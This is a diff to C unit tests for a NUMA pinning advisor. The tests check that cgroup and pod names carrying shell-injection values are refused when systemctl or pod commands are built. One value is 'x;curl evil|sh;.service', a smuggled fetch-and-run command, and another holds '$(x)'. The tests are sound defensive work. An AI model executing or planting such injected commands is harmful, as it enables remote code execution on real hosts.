@@ -691,6 +691,26 @@ static void test_commands_by_context(void **state)
 		   "--cpu-manager-policy=static --topology-manager-policy=single-numa-node");
 	assert_has(c[0].text, "numalens does not pin pods");
 
+	/* A name refused (test_shquote.c): no form needs it, and the reason says so. */
+	nl_cgroup_classify("/user.slice/user-1000.slice/user@1000.service/x;curl evil|sh;.service",
+			   &l.ctx);
+	advise(&a, &l, NULL);
+	assert_has(a.reason, "; its cgroup is not named as a systemd unit may be, so no "
+			     "systemctl form is given");
+	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
+	assert_int_equal(nr, 3);
+	assert_int_equal(c[0].form, NL_FORM_TASKSET);
+	assert_int_equal(c[2].form, NL_FORM_NUMACTL);
+	nl_cgroup_classify(
+		"/kubepods/burstable/pod$(x)/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
+		&l.ctx);
+	advise(&a, &l, NULL);
+	assert_has(a.reason, "; its cgroup's pod UID is not in the kubelet's form, so the pod is "
+			     "not named");
+	nl_cgroup_classify("/system.slice/postgresql@15-main.service", &l.ctx);
+	advise(&a, &l, NULL);
+	assert_null(strstr(a.reason, "its cgroup"));
+
 	/* Nothing to do, no commands. */
 	a.action = NL_ACT_NONE;
 	assert_int_equal(nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS), 0);
@@ -768,6 +788,8 @@ static void test_cgroup_parsers(void **state)
  * a cpuset of node 1, a kernel thread, and a pod whose cpuset is set on an
  * ancestor cgroup. */
 static char scratch[512];
+/* A pod's slice as the systemd cgroup driver names it: '-' written '_'. */
+#define POD_SLICE "kubepods-pod11111111_2222_3333_4444_555555555555.slice"
 #define DOCKER_ID "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
 
 static void write_stat(int pid, const char *comm, unsigned int flags, int start)
@@ -834,13 +856,12 @@ static int tree_setup(void **state)
 
 	write_stat(4444, "app", 0x400000, 2000);
 	write_rel("proc/4444/status", status, 0);
-	snprintf(cg, sizeof(cg),
-		 "0::/kubepods.slice/kubepods-pod11111111_2222.slice/cri-containerd-%s.scope\n",
+	snprintf(cg, sizeof(cg), "0::/kubepods.slice/" POD_SLICE "/cri-containerd-%s.scope\n",
 		 DOCKER_ID);
 	write_rel("proc/4444/cgroup", cg, 0);
 	write_rel("cg/kubepods.slice/cpuset.cpus.effective", "0-1\n", 0);
 	write_rel("cg/kubepods.slice/cpuset.mems.effective", "0\n", 0);
-	snprintf(cg, sizeof(cg), "cg/kubepods.slice/kubepods-pod11111111_2222.slice/cgroup.procs");
+	snprintf(cg, sizeof(cg), "cg/kubepods.slice/" POD_SLICE "/cgroup.procs");
 	write_rel(cg, "", 0);
 
 	snprintf(mountinfo, sizeof(mountinfo), "30 1 0:26 / %s/cg rw - cgroup2 cgroup2 rw\n",
@@ -916,11 +937,11 @@ static void test_limits_read(void **state)
 	/* The pod's cpuset is on an ancestor; refused unless forced. */
 	assert_int_equal(nl_proc_limits_read(4444, &topo, &l), 0);
 	assert_int_equal(l.ctx.runtime, NL_RT_KUBERNETES);
-	assert_string_equal(l.ctx.pod, "11111111-2222");
+	assert_string_equal(l.ctx.pod, "11111111-2222-3333-4444-555555555555");
 	assert_string_equal(l.cpuset_cgroup, "/kubepods.slice");
 	assert_string_equal(nl_bits_to_list(l.cpus, NL_MAX_CPUS, buf, sizeof(buf)), "0-1");
 	assert_int_equal(nl_pin_check(4444, &l, false, msg, sizeof(msg)), NL_PIN_POD);
-	assert_has(msg, "runs in Kubernetes pod 11111111-2222");
+	assert_has(msg, "runs in Kubernetes pod 11111111-2222-3333-4444-555555555555");
 	assert_has(msg, "--force");
 	assert_int_equal(nl_pin_check(4444, &l, true, msg, sizeof(msg)),
 			 may_change(1000) ? NL_PIN_OK : NL_PIN_PRIVILEGE);
@@ -949,12 +970,14 @@ static void test_limits_hostile(void **state)
 	assert_true(l.cpuset_known);
 	assert_string_equal(l.cpuset_cgroup, "/");
 	assert_string_equal(l.cgroup, "/system.slice/e?]0;x?vil?.scope");
-	/* Where systemd runs, a unit, named as text too. */
+	/* Where systemd runs, a unit, but not one by that name: refused. */
 	assert_int_equal(l.ctx.runtime, NL_RT_NONE);
+	assert_int_equal(l.ctx.refused, NL_REFUSED_NONE);
 	write_rel("no-systemd", "", 0);
 	assert_int_equal(nl_proc_limits_read(4646, &topo, &l), 0);
 	assert_int_equal(l.ctx.runtime, NL_RT_SYSTEMD);
-	assert_string_equal(l.ctx.unit, "e?]0;x?vil?.scope");
+	assert_string_equal(l.ctx.unit, "");
+	assert_int_equal(l.ctx.refused, NL_REFUSED_UNIT);
 	/* $'...' with \xHH where a byte must not reach a terminal (\n, \t
 	 * as such), plain quoting elsewhere. */
 	assert_string_equal(l.cmdline,
